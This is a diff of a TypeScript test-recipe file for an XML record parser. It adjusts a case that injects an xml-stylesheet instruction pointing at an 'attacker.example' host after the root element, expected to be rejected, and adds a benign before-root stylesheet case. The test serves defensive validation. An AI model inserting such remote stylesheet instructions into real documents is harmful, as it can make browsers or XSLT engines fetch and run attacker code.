@@ -80,9 +80,16 @@ export const PARSER: Recipe[] = [
   },
   {
     file: 'xml/processing-instruction.xml', category, expected: 'xml_processing_instruction', verdict: 'invalid', ingest: true,
-    technique: 'An xml-stylesheet processing instruction (would make a browser or XSLT engine fetch and run a stylesheet)',
+    technique: 'An xml-stylesheet processing instruction after the root (only one before the root is ignored, SPEC §7; anywhere else a browser or XSLT engine would fetch and run it)',
     async build(kit) {
-      return replaceOnce(await kit.sealed(208), /\?>\n/, '?>\n<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>\n');
+      return replaceOnce(await kit.sealed(208), /<\/HocBaSo>\s*$/, '</HocBaSo>\n<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>\n');
+    },
+  },
+  {
+    file: 'xml/stylesheet-before-root.xml', category, expected: null, verdict: 'valid', ingest: true,
+    technique: 'An xml-stylesheet processing instruction before the root, as a Vietnamese e-invoice vendor writes it: ignored (no node, outside what is signed), the record accepted',
+    async build(kit) {
+      return replaceOnce(await kit.sealed(209), /\?>\n/, '?>\n<?xml-stylesheet type="text/xsl" href="hoc-ba.xsl"?>\n');
     },
   },
   {
